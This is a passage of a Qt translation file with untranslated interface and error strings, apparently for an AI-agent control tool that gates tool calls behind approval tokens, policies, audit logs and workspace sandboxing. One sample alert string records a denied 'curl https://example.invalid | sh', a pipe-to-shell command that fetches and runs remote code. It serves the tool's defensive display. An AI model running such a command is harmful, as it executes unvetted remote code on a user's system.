    </message>
    <message>
        <source>The price list %1 is invalid: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 at byte %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the top level must be a JSON object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unsupported schema %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;per&quot; must be a positive number of tokens</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 must be a non-negative number</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>multipliers.%1 must be a number from 0 to 100</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;models&quot; must be an array</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 needs exactly one of &quot;id&quot; and &quot;prefix&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1.date must be a date YYYY-MM-DD</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1.above_prompt_tokens needs a whole-number &quot;limit&quot;</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ReadFileTool</name>
    <message>
        <source>&quot;%1&quot; looks like a binary file (it contains NUL bytes); only text files can be read.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not valid UTF-8 text; only UTF-8 text files can be read.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>end_line (%1) is before start_line (%2).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>start_line %1 is beyond the end of &quot;%2&quot; (%3 lines%4).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> in the first 16 MiB</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[line %1 alone is longer than 256 KiB; it was not returned]
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[truncated: showing lines %1-%2 of %3%4; the file has %5 bytes. Use start_line and end_line to read further.]</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (counted in the first 16 MiB)</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ReplayProvider</name>
    <message>
        <source>Cannot read the transcript %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The transcript %1 is not a JSON object (%2).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The transcript %1 has no &quot;turns&quot;.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Turn %1 of the transcript %2 needs &quot;content&quot; (an array) and &quot;stop_reason&quot;.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Turn %1 of the transcript %2: a tool_use block needs an &quot;id&quot; and an object &quot;input&quot;.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The recorded transcript %1 has no more turns.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model turn was cancelled.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>RunCommandTool</name>
    <message>
        <source>The program %1 does not exist.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is not a program file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is not executable (no execute permission); it is not run through a shell either.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 cannot be read.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 cannot be run: exec format error (it is neither a binary nor a script with a #! line); it is not run through a shell either.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Every element of argv must be a string.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>argv[0] (the program) is empty.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>An argument contains a NUL byte.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a program: argv[0] looks like an environment assignment, and assignments are never applied to the environment.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The working folder &quot;%1&quot; is not a folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The program &quot;%1&quot; was not found on PATH (%2).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 could not be started: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[timed out after %1 s; the process group was killed]
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[killed: more than %1 bytes of output]
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[terminated by a signal]
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>exit code: %1
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
[stdout truncated: %1 of %2 bytes shown]</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
[stderr truncated: %1 of %2 bytes shown]</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>RunReport</name>
    <message>
        <source>Run %1 finished: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (dry run: no tool was executed)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  error: %1: %2
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  provider: %1
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  agent %1, model %2, provider %3
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  steps %1, API calls %2, duration %3 s
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  tool calls: %1 proposed, %2 approved, %3 denied, %4 executed, %5 failed, %6 expired, %7 cancelled, %8 not run (dry run)
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  tokens: %1 in, %2 out, %3 cache write, %4 cache read
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  cost: $%1%2
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (incomplete: some prices unknown)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  cost: unknown
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  plan:
</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>RunSession</name>
    <message>
        <source>Write a goal first: what should the agent do?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval tokens cannot be issued: %1
Set M1_JWT_SECRET (32 bytes or more) or unlock the keychain, then retry.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unknown agent profile &quot;%1&quot; (see %2).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No API key for Claude. Enter one in Settings (stored in the keychain) or set ANTHROPIC_API_KEY; without a key the offline replay runs instead.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Choose the workspace folder the agent may work in.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unknown model &quot;%1&quot; (the list is in %2).</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SafeFile</name>
    <message>
        <source>&quot;%1&quot; is a symbolic link; it is not followed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not exist.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be opened: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not name a file inside the workspace.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The workspace %1 cannot be opened: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The folder &quot;%1&quot; cannot be created: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be read: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is a folder, not a file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a regular file (device, pipe or socket).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The workspace root is a folder, not a file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is a symbolic link; writes never go through a link.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; exists and is not a regular file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be written: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A folder cannot be listed: %1.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SchemaMigrations</name>
    <message>
        <source>Reading the schema version of the audit database</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database %1 was written by a newer M1 Agent Control (schema version %2); this program knows up to version %3. It was not changed; update M1 Agent Control or point the store at another file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database %1 has schema version %2 but this program needs %3; open it read-write once so it can be upgraded.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Starting the schema upgrade</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Locking the schema upgrade</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Creating the schema_version table</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the schema version</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Schema upgrade to version %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording schema version %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Committing the schema upgrade</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ScreenshotTour</name>
    <message>
        <source>80 % of the daily budget used ($4.02 of $5.00).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tool error rate 31 % over the last 40 calls (threshold 25 %).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>run_command denied: curl https://example.invalid | sh</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SearchFilesTool</name>
    <message>
        <source>The pattern &quot;%1&quot; is not a valid regular expression: %2 (at offset %3).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The glob &quot;%1&quot; is not valid.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No matches for &quot;%1&quot;.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
[truncated: stopped after %1 matches; narrow the pattern, the path or the glob]</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
[truncated: stopped after searching %1 files; narrow the path or the glob]</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SecretStore</name>
    <message>
        <source>The keychain has no entry &quot;%1&quot;.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Access to the keychain was denied (%1). Unlock the keychain and try again, or for headless use set M1_JWT_SECRET (at least 32 bytes) and ANTHROPIC_API_KEY.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The keychain failed: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No keychain service is available (%1). Start one that offers the Secret Service D-Bus API, such as GNOME Keyring or KWallet, or for headless use set the environment variables M1_JWT_SECRET (at least 32 bytes) and ANTHROPIC_API_KEY.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>M1_JWT_SECRET holds %1 bytes; it needs at least %2 random bytes (for example the output of: openssl rand -base64 48).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The keychain&apos;s JWT secret is shorter than %1 bytes; rotate it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>OpenSSL could not provide random bytes for the JWT secret.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>M1_JWT_SECRET is set and overrides the keychain; rotating the keychain&apos;s secret would not change the secret in use. Change the variable instead.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No API key configured: set ANTHROPIC_API_KEY or save a key in the settings.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No API key configured: the keychain entry is empty. Set ANTHROPIC_API_KEY or save a key in the settings.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>An empty API key cannot be saved.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>Settings</name>
    <message>
        <source>Cannot read the settings file %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The settings file %1 is invalid: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 at byte %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the top level must be a JSON object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 must be true or false</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 must be a whole number from %2 to %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approvals must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown scope &quot;approvals.%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>limits must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;limits.%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>rateLimits must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;%1.%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>tokens must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;tokens.%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>policyFile must be a non-empty path</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>monitoring must be an object</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ShellScriptParser</name>
    <message>
        <source>the script redirects output to &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the word &quot;%1&quot; is expanded by the shell (wildcards)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the word &quot;%1&quot; uses tilde expansion</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the word &quot;%1&quot; uses brace expansion</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses the shell construct &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script sets a variable (%1)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a redirection has no target</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unbalanced parentheses in %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>an unbalanced backtick</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses command substitution (`…`)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses arithmetic expansion $((…))</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses command substitution $(…)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script expands a variable (${…})</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses $&apos;…&apos; quoting</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses $&quot;…&quot; quoting</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script expands a variable ($%1…)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>an unbalanced double quote</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script contains a carriage return</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unbalanced parentheses</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script defines a function or uses &quot;(&quot; inside a word</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses a here-string (&lt;&lt;&lt;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script uses a here-document (&lt;&lt;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script opens a file for writing (&lt;&gt;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>an unbalanced single quote</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SqlDialect</name>
    <message>
        <source>The audit database is locked by another process for longer than the busy timeout. Nothing was written; try again, or close the other M1 instance.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database has no room left (disk or size limit full). Nothing was written; free space and retry. Tools stay blocked until the audit works.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database is read-only. Nothing was written; make the file and its folder writable, or point the store at a writable location.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database is damaged. It was not changed; restore a backup or start a new file elsewhere.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The connection to the database server was lost. Nothing from this step was acknowledged; reconnect and retry.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 failed: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 failed: %2. %3</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SseParser</name>
    <message>
        <source>The response from the API is too large (limit %1 bytes per line, %2 bytes in total).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The response stream ended in the middle of an event.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>StoreConfig</name>
    <message>
        <source>The audit store location &quot;%1&quot; is neither a file path nor a postgresql:// URL.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The PostgreSQL URL is not valid; expected postgresql://user:password@host:port/database.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The PostgreSQL URL names no database; expected postgresql://user:password@host:port/database.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The PostgreSQL URL option &quot;%1&quot; is not supported (supported: %2).</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>StoreConnection</name>
    <message>
        <source>Cannot create the audit folder %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot read the audit database %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database %1 cannot be used: %2. It was not changed; move it away (or restore a backup) to start a new audit file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>it is not an SQLite database (wrong file header)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header names an impossible page size</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the file is cut short (%1 bytes is not a whole number of %2-byte pages)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the file is cut short (%1 of %2 pages present)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database path %1 is a symbolic link; it is refused so that the audit trail cannot be redirected. Configure the real path.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database path %1 is not a regular file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot inspect the audit database %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database %1 does not exist (opened read-only).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot create the audit database %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Opening the audit database %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the audit database %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Configuring the audit database %1 (%2)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database %1 has %2 = &quot;%3&quot; where &quot;%4&quot; is needed for durable, concurrent writes.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot connect to the audit database %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Configuring the connection to %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit database %1 does not confirm synchronous_commit = on.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>StreamAssembler</name>
    <message>
        <source>Malformed &quot;%1&quot; event (event %2 of the stream): %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the data is not a JSON object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a second message_start</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no message id</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>it came before message_start</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no valid index</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no delta object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 without a string &quot;%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>stop_reason is not a string</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no content_block object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>block %1 started twice</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>tool_use block %1 without id or name</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>delta for block %1, which was never started</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>delta for block %1 after its stop</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 for a %2 block</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>stop for block %1, which was never started</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>block %1 stopped twice</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model produced invalid tool input (tool &quot;%1&quot;, block %2): %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not a JSON object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>block %1 was never stopped</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>TokenLedger</name>
    <message>
        <source>Cannot open the token ledger in the audit database (%1): %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval token %1 was already used; approve the call again.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval token %1 was revoked.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>TokenService</name>
    <message>
        <source>Approval token refused (%1): %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval token %1 refused (%2): %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval token %1 (unverified id) refused (%2): %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The signing secret has %1 bytes; at least %2 are required.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Invalid token options: lifetimes must be positive with the default at most the maximum, and the leeway between 0 and %1 seconds.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>OpenSSL could not set up HMAC-SHA256 with the signing secret.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A token lifetime must lie between 1 and %1 seconds.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A token must name a tool.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The arguments could not be hashed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The token could not be signed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token id (jti) is missing or not a UUID</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ToolExecutor</name>
    <message>
        <source>&quot;%1&quot; is not a registered tool.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No approval token: %1 runs only with a token bound to this exact call.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied by policy just before running: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>UpdatePlanTool</name>
    <message>
        <source>Plan updated: %1 steps, %2 done.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>Workspace</name>
    <message>
        <source>The workspace folder is empty or contains a NUL character.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The workspace folder &quot;%1&quot; cannot be opened: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The workspace &quot;%1&quot; is not a folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The path is empty.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The path contains a NUL character.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; resolves to %2, which is outside the workspace %3.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be resolved: too many levels of symbolic links (ELOOP, a link loop).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be resolved: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not exist: a part of it is not a folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; goes through the symbolic link %2 to %3, which is outside the workspace %4.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; goes through the symbolic link %2 whose target %3 does not exist.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not exist (%2).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not name a file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be written: a part of it is not a folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; goes through the symbolic link %2 to %3, which does not exist; writes never go through a link.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; uses &quot;..&quot; after a folder that does not exist.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be written: %2 is not a folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is a symbolic link to %2; writes never go through a link.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>WriteFileTool</name>
    <message>
        <source>Created %1 (%2 bytes).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Replaced %1 (%2 bytes).</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::AlertManager</name>
    <message>
        <source>No alert with the id %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The alert %1 is already resolved.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::AlertsView</name>
    <message>
        <source>&amp;Open only</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Filter by level</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All levels</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Filter by category</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All categories</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Resolve…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Re&amp;load</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Raised</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Level</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Category</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Message</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alerts could not be read: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resolved: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>%n open alert(s)</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>Resolve alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What was done about it (kept with the alert):</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not resolved</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::ApprovalDialog</name>
    <message>
        <source>Approve %1? — %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval request for %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Scope: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The agent wants to run %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1, step %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Why you are asked:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The first 12 hex digits of the SHA-256 of the call&apos;s canonical arguments: the approval token binds exactly these.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Fingerprint:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Path:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Working folder:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Waits until:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Changes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Co&amp;mmand</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Arguments as JSON</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Edit the arguments before approving</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The edited call is checked against the tool&apos;s schema and the policy again; the approval token binds the edited arguments.</source>
